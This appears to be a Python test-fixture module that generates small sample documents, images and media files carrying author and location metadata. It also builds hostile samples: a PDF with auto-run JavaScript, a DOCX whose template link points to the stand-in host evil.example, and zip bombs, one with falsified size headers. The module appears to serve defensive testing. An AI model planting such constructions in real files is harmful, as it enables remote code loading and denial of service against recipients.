"""Small true files of each kind, made here; and what hostile ones look like."""

import io
import struct
import wave
import zipfile
from collections.abc import Mapping

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

AUTHOR = "Wang Fictitious"
PLACE = "30.123456"


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 20), orientation: int = 1) -> bytes:
    """A picture, red above and blue below, with an author, a camera and a place."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (0, size[1] // 2, size[0], size[1]))
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x013B] = AUTHOR
    exif[0x010F] = "Camera of " + AUTHOR
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[29] = PLACE
    out = io.BytesIO()
    image.save(out, kind, exif=exif, comment=AUTHOR.encode()) if kind == "JPEG" else image.save(
        out, kind, exif=exif
    )
    return out.getvalue()


def pdf(
    text: str = "", *, author: str = AUTHOR, attached: bool = False, password: str = ""
) -> bytes:
    """A page with a line of text (Latin letters), its author, a picture and a comment."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 300)
    content = StreamObject()
    content._data = f"BT /F1 12 Tf 20 200 Td ({text or 'Hello'}) Tj ET".encode()
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    photo = StreamObject()
    photo._data = picture()
    photo.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Filter"): NameObject("/DCTDecode"),
            NameObject("/Metadata"): TextStringObject(AUTHOR),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {
            NameObject("/Font"): DictionaryObject({NameObject("/F1"): font}),
            NameObject("/XObject"): DictionaryObject(
                {NameObject("/Im1"): writer._add_object(photo)}
            ),
        }
    )
    page[NameObject("/Contents")] = writer._add_object(content)
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Text"),
            NameObject("/T"): TextStringObject(author),
            NameObject("/Contents"): TextStringObject("a remark"),
        }
    )
    writer.add_annotation(0, note)
    writer.add_metadata({"/Author": author, "/Creator": author, "/CreationDate": "D:20260101"})
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    about = StreamObject()
    about._data = f"<x:xmpmeta>{author}</x:xmpmeta>".encode()
    writer.root_object[NameObject("/Metadata")] = writer._add_object(about)
    if attached:
        writer.add_attachment("list.txt", b"names")
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def package(parts: Mapping[str, bytes | str]) -> bytes:
    """A package of parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            archive.writestr(info, part, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docx(*paragraphs: str, more: Mapping[str, bytes | str] | None = None) -> bytes:
    """A Word document with properties, a comment, a tracked change and a picture."""
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs or ("正文",))
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{WORD}"><w:body>{body}'
        f'<w:p w:rsidR="00AB12CD"><w:ins w:id="1" w:author="{AUTHOR}" '
        'w:date="2026-01-01T08:00:00Z"><w:r><w:t>added by author="nobody"</w:t></w:r></w:ins>'
        "</w:p></w:body></w:document>"
    )
    return package(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": '<Relationships><Relationship Id="r1" '
            'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/'
            'thumbnail" Target="docProps/thumbnail.jpeg"/></Relationships>',
            "docProps/core.xml": f"<core><creator>{AUTHOR}</creator></core>",
            "docProps/app.xml": f"<Properties><Company>{AUTHOR}</Company></Properties>",
            "docProps/thumbnail.jpeg": picture(),
            "word/document.xml": document,
            "word/comments.xml": f'<w:comments><w:comment w:author="{AUTHOR}" w:initials="W"/>'
            "</w:comments>",
            "word/people.xml": f'<w15:people><w15:person w15:author="{AUTHOR}">'
            f'<w15:presenceInfo w15:userId="x"/></w15:person></w15:people>',
            "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r9" '
            'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>',
            "word/media/image1.jpg": picture(),
            **(more or {}),
        }
    )


def xlsx() -> bytes:
    """A workbook with a table, a comment and a person."""
    return package(
        {
            "[Content_Types].xml": TYPES,
            "docProps/core.xml": f"<core><creator>{AUTHOR}</creator></core>",
            "xl/workbook.xml": "<workbook/>",
            "xl/tables/table1.xml": '<table name="T1" displayName="T1"/>',
            "xl/comments1.xml": f"<authors><author>{AUTHOR}</author></authors>",
            "xl/persons/person.xml": f'<personList><person displayName="{AUTHOR}" id="1" '
            f'userId="{AUTHOR}"/></personList>',
            "xl/sharedStrings.xml": "<sst><si><t>台账</t></si></sst>",
        }
    )


def bomb() -> bytes:
    """A Word document whose one part swells a thousand times."""
    return package(
        {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:t>" + b" " * 60_000_000}
    )


def lying_bomb() -> bytes:
    """The same, whose headers claim that the part is small."""
    raw = bytearray(bomb())
    size = struct.pack("<I", 60_000_005)
    while (at := raw.find(size)) >= 0:
        raw[at : at + 4] = struct.pack("<I", 1000)
    return bytes(raw)


def ofd() -> bytes:
    """An OFD document with an author."""
    return package(
        {
            "OFD.xml": "<ofd:OFD><ofd:DocBody><ofd:DocInfo><ofd:DocID>1</ofd:DocID>"
            f"<ofd:Author>{AUTHOR}</ofd:Author></ofd:DocInfo></ofd:DocBody></ofd:OFD>",
            "Doc_0/Pages/Page_0/Content.xml": "<ofd:TextCode>正文</ofd:TextCode>",
        }
    )


def ole(streams: Mapping[str, bytes]) -> bytes:
    """An old Office file with these streams, each padded to 4,096 bytes; version 3 sectors."""
    names = ["Root Entry", *streams]
    entries, fat, data = [], [0xFFFFFFFD, 0xFFFFFFFE], b""
    for number, name in enumerate(names):
        content = streams.get(name, b"").ljust(4096, b"\0") if number else b""
        start = len(fat) if number else 0xFFFFFFFE
        if number:
            fat += [*range(start + 1, start + 8), 0xFFFFFFFE]
            data += content
        raw = name.encode("utf-16-le") + b"\0\0"
        right = number + 1 if 0 < number < len(names) - 1 else 0xFFFFFFFF
        entries.append(
            raw.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(raw), 2 if number else 5, 1, 0xFFFFFFFF,
                          right, 0xFFFFFFFF if number else 1)
            + bytes(36)
            + struct.pack("<IQ", start, len(content))
        )  # fmt: skip
    head = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<I", 0)
        + b"\xff" * 432
    )
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return head + table + b"".join(entries).ljust(512, b"\0") + data


def doc(text: str = "正文", **more: bytes) -> bytes:
    """An old Word document with a summary that names its author; at most three streams."""
    return ole(
        {
            "WordDocument": text.encode("utf-16-le"),
            "\x05SummaryInformation": b"\xfe\xff" + AUTHOR.encode(),
            **more,
        }
    )


def wav() -> bytes:
    """A tenth of a second of silence, with a list of tags behind it."""
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(1600))
    tag = b"INFOIART" + struct.pack("<I", 16) + AUTHOR.encode().ljust(16, b"\0")
    raw = out.getvalue() + b"LIST" + struct.pack("<I", len(tag)) + tag
    return raw[:4] + struct.pack("<I", len(raw) - 8) + raw[8:]


def mp3() -> bytes:
    """Ten frames of nothing between an ID3v2 tag and an ID3v1 tag."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    tag = AUTHOR.encode().ljust(200, b"\0")
    head = b"ID3\x04\x00\x00" + bytes([0, 0, 1, 72]) + tag
    return head + frame * 10 + b"TAG" + AUTHOR.encode().ljust(125, b"\0")


def box(name: bytes, content: bytes) -> bytes:
    """One box of an MP4."""
    return struct.pack(">I", len(content) + 8) + name + content


def mp4(brand: bytes = b"isom", *, data_track: bool = False) -> bytes:
    """A film with its times, a tag that says where, and perhaps a track of positions."""
    header = box(b"mvhd", struct.pack(">IIII", 0, 3_900_000_000, 3_900_000_000, 1000) + bytes(80))
    handler = box(b"hdlr", bytes(8) + (b"meta" if data_track else b"vide") + bytes(13))
    track = box(
        b"trak", box(b"tkhd", struct.pack(">III", 7, 1, 2) + bytes(72)) + box(b"mdia", handler)
    )
    tags = box(b"udta", box(b"\xa9xyz", f"+{PLACE}+104.0/".encode()))
    return (
        box(b"ftyp", brand + bytes(4) + brand)
        + box(b"moov", header + track + tags)
        + box(b"mdat", b"frames of the film")
    )


TRUE: Mapping[str, tuple[str, bytes]] = {
    "pdf": ("a.pdf", pdf()),
    "docx": ("a.docx", docx()),
    "xlsx": ("a.xlsx", xlsx()),
    "ofd": ("a.ofd", ofd()),
    "txt": ("a.txt", "窗口办事人员态度生硬。".encode()),
    "jpg": ("a.JPG", picture()),
    "png": ("a.png", picture("PNG")),
    "webp": ("a.webp", picture("WEBP")),
    "wav": ("a.wav", wav()),
    "mp3": ("a.mp3", mp3()),
    "mp4": ("a.mp4", mp4()),
    "m4a": ("a.m4a", mp4(b"M4A ")),
    "mov": ("a.mov", mp4(b"qt  ")),
    "amr": ("a.amr", b"#!AMR\n" + bytes(64)),
}
"""One true file of each kind that is taken."""
